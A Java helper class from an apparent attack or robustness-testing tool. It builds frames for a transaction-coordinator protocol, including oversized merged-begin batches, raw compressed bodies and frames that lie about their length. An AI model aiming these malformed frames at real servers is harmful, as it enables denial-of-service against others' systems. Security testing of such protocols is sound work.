package io.hawser.attack.attacks;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufUtil;
import io.netty.buffer.Unpooled;
import java.nio.charset.StandardCharsets;

/** Frames as the protocol has them (sections 1 to 4), and frames that lie about their length. */
final class Frames {
  static final int NONE = 0;
  static final int GZIP = 1;
  static final int BZIP2 = 4;

  /** The length of the longest frame that a peer accepts (section 1.2). */
  static final int MAX_FRAME = 8 * 1024 * 1024;

  private static final int HEADER = 16;
  private static final int REQUEST = 0;
  private static final int ONE_WAY = 2;
  private static final int GLOBAL_BEGIN = 1;
  private static final int MERGED = 59;
  private static final int REGISTER_TM = 101;
  private static final int REGISTER_RM = 103;
  private static final int TIMEOUT_MILLIS = 60_000;
  private static final String VERSION = "2.6.0";
  private static final String GROUP = "default_tx_group";

  private Frames() {}

  static byte[] registerTm(String application, String extraData) {
    ByteBuf body = registration(REGISTER_TM, application, extraData);
    return frame(REQUEST, NONE, 1, bytes(body));
  }

  static byte[] registerRm(String application, String resourceIds) {
    ByteBuf body = registration(REGISTER_RM, application, "");
    byte[] ids = resourceIds.getBytes(StandardCharsets.UTF_8);
    body.writeInt(ids.length).writeBytes(ids);
    return frame(REQUEST, NONE, 1, bytes(body));
  }

  private static ByteBuf registration(int type, String application, String extraData) {
    ByteBuf body = Unpooled.buffer().writeShort(type);
    for (String field : new String[] {VERSION, application, GROUP, extraData}) {
      text(body, field);
    }
    return body;
  }

  /** Returns a merged request of that many begins, with ids from 1 on. */
  static byte[] mergedBegins(int count) {
    ByteBuf inner = Unpooled.buffer().writeShort(count);
    for (int i = 0; i < count; i++) {
      inner.writeShort(GLOBAL_BEGIN).writeInt(TIMEOUT_MILLIS);
      text(inner, "");
    }
    for (int i = 1; i <= count; i++) {
      inner.writeInt(i);
    }
    ByteBuf body = Unpooled.buffer().writeShort(MERGED).writeInt(inner.readableBytes());
    return frame(ONE_WAY, NONE, count + 1, bytes(body.writeBytes(inner)));
  }

  /** Returns a request with that body, as it is. */
  static byte[] request(int compressor, byte[] body) {
    return frame(REQUEST, compressor, 2, body);
  }

  /** Returns the beginning of a frame that announces one length and has another one. */
  static byte[] beginning(int announced, int length) {
    byte[] torso = new byte[length];
    byte[] header = bytes(header(REQUEST, NONE, 3, announced));
    System.arraycopy(header, 0, torso, 0, HEADER);
    torso[HEADER + 1] = REGISTER_RM; // as if it were a registration with many resources
    return torso;
  }

  private static byte[] frame(int messageType, int compressor, int id, byte[] body) {
    ByteBuf frame = header(messageType, compressor, id, HEADER + body.length);
    return bytes(frame.writeBytes(body));
  }

  private static ByteBuf header(int messageType, int compressor, int id, int fullLength) {
    return Unpooled.buffer()
        .writeShort(0xdada)
        .writeByte(1)
        .writeInt(fullLength)
        .writeShort(HEADER)
        .writeByte(messageType)
        .writeByte(1) // serializer
        .writeByte(compressor)
        .writeInt(id);
  }

  private static void text(ByteBuf out, String text) {
    byte[] utf8 = text.getBytes(StandardCharsets.UTF_8);
    out.writeShort(utf8.length).writeBytes(utf8);
  }

  private static byte[] bytes(ByteBuf buffer) {
    return ByteBufUtil.getBytes(buffer);
  }
}
